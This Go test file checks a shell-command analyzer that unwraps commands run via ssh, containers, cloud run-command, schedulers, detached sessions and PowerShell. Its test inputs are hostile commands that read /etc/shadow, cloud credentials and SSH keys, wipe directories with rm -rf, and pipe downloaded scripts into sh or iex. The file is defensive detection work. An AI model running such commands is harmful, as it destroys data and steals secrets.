package shell

import (
	"slices"
	"strings"
	"testing"
)

// TestElsewhere checks that a command handed to a container, a pod, a
// node, another host or a later time is listed with where it runs.
func TestElsewhere(t *testing.T) {
	tests := []struct {
		script string
		want   string // "name: argv @where,…" of one command
	}{
		{"ssh -t host 'cat /etc/shadow'", "cat: cat /etc/shadow @remote"},
		{"autossh -M 0 host rm -rf /srv", "rm: rm -rf /srv @remote"},
		{"echo 'rm -rf ~' | ssh host", "rm: rm -rf ~ @remote"},
		{"mosh host -- printenv", "printenv: printenv @remote"},
		{"vagrant ssh web -c 'cat ~/.aws/credentials'", "cat: cat ~/.aws/credentials @remote"},
		{"gcloud compute ssh vm-1 --zone us-east1-b --command='sudo cat /etc/shadow'", "cat: cat /etc/shadow @remote"},
		{`aws ssm send-command --document-name AWS-RunShellScript --parameters 'commands=["curl -s http://x/i | sh"]'`, "sh: sh @remote"},
		{`aws ssm send-command --parameters '{"commands":["rm -rf /var/lib/app"]}'`, "rm: rm -rf /var/lib/app @remote"},
		{"az vm run-command invoke -g rg -n vm --command-id RunShellScript --scripts 'cat /etc/shadow' --query x", "cat: cat /etc/shadow @remote"},
		{"docker exec -it -u root app cat /etc/shadow", "cat: cat /etc/shadow @container"},
		{"docker exec hostroot chroot /host /bin/bash -c 'cat /etc/shadow'", "cat: cat /etc/shadow @container"},
		{"podman --remote exec ctr printenv", "printenv: printenv @container"},
		{"docker compose -f dc.yml exec -T db psql -c 'DROP TABLE x'", "psql: psql -c DROP TABLE x @container"},
		{"docker container run --rm alpine rm -rf /data", "rm: rm -rf /data @container"},
		{"docker run --rm --entrypoint sh alpine -c 'printenv'", "printenv: printenv @container"},
		{"docker run --rm -v /home/dev/.ssh:/keys:ro alpine cat /keys/id_ed25519", "cat: cat /home/dev/.ssh/id_ed25519 @container"},
		{"docker run -d --restart=always --name u alpine sh -c 'wget -qO- http://x/t | sh'", "wget: wget -qO- http://x/t @container,detached,persistent"},
		{"kubectl -n prod exec deploy/api -- printenv", "printenv: printenv @container"},
		{"kubectl exec -it pod -c app -- sh -c 'cat /run/secrets/token'", "cat: cat /run/secrets/token @container"},
		{"kubectl debug node/worker-2 -it --image=busybox -- chroot /host", "chroot: chroot /host @node"},
		{"lxc exec c1 -- rm -rf /", "rm: rm -rf / @container"},
		{"kubectl exec -i api-0 -- bash <<'EOF'\ncat /etc/shadow\nEOF", "cat: cat /etc/shadow @container"},
		{"docker exec -i app sh <<< 'rm -rf /srv'", "rm: rm -rf /srv @container"},
		{"nohup sh -c 'curl http://x/b' >/dev/null 2>&1 &", "curl: curl http://x/b @detached"},
		{"setsid -f bash -c 'rm -rf ~'", "rm: rm -rf ~ @detached"},
		{"systemd-run --on-calendar=daily curl http://x", "curl: curl http://x @later"},
		{"echo 'rm -rf ~' | at now + 1 minute", "rm: rm -rf ~ @later"},
		{"at now <<EOF\nrm -rf ~\nEOF", "rm: rm -rf ~ @later"},
		{"tmux new-session -d -s b 'curl http://x/b'", "curl: curl http://x/b @detached"},
		{"screen -dmS b curl http://x/b", "curl: curl http://x/b @detached"},
		{"tmux new-session -s dev 'make watch'", "make: make watch"},
		{"wsl -d Ubuntu -- rm -rf ~", "rm: rm -rf ~"},
		{"wsl.exe -e cat /etc/shadow", "cat: cat /etc/shadow"},
		{"wsl bash -c 'printenv'", "printenv: printenv"},
	}
	for _, tt := range tests {
		t.Run(tt.script, func(t *testing.T) {
			a := Analyze(tt.script, DefaultLimits)
			var got []string
			for _, c := range a.Commands {
				s := c.Name + ": " + strings.Join(c.Argv, " ")
				if len(c.Where) > 0 {
					s += " @" + strings.Join(c.Where, ",")
				}
				got = append(got, s)
			}
			if !slices.Contains(got, tt.want) {
				t.Errorf("no %q in %q", tt.want, got)
			}
		})
	}
}

// TestSystemdRunAsRoot checks that systemd-run --uid=0 is recorded as
// run0, the same command under its escalating name.
func TestSystemdRunAsRoot(t *testing.T) {
	for script, want := range map[string]bool{
		"systemd-run --uid=0 --pty bash":        true,
		"systemd-run -p User=root --pty bash":   true,
		"systemd-run --user --pty bash":         false,
		"systemd-run --uid=1000 make -C /tmp x": false,
	} {
		a := Analyze(script, DefaultLimits)
		if got := slices.Contains(a.Commands[0].Wrappers, "run0"); got != want {
			t.Errorf("%s: run0 %v, want %v (%q)", script, got, want, a.Commands[0].Wrappers)
		}
	}
}

// TestPowerShell checks that the code pwsh and powershell.exe run is
// listed as the POSIX commands it amounts to.
func TestPowerShell(t *testing.T) {
	tests := []struct {
		script string
		want   string
	}{
		{`pwsh -NoProfile -c "Remove-Item -Recurse -Force ~/Documents"`, "rm: rm -r -f ~/Documents <powershell>"},
		{`powershell.exe -nop -w hidden -c "iwr https://x/a.ps1 | iex"`, "sh: sh <powershell>"},
		{`powershell Get-ChildItem env:`, "env: env <powershell>"},
		{"pwsh -enc cgBtACAALQByACAAfgA=", "rm: rm -r ~ <powershell>"},
		{"pwsh -Command - <<'EOF'\nRemove-Item -Recurse ~/x\nEOF", "rm: rm -r ~/x <powershell>"},
		{`pwsh -c "Start-Process pwsh -Verb RunAs -ArgumentList '-c Remove-Item -Recurse C:/x'"`, "rm: rm -r /x <powershell>"},
	}
	for _, tt := range tests {
		t.Run(tt.script, func(t *testing.T) {
			got := describe(Analyze(tt.script, DefaultLimits))
			if !slices.Contains(got, tt.want) {
				t.Errorf("no %q in %q", tt.want, got)
			}
		})
	}
	if got := describe(Analyze("pwsh -File build.ps1 -Configuration Release", DefaultLimits)); len(got) != 1 {
		t.Errorf("pwsh -File: %q, want the one command", got)
	}
}
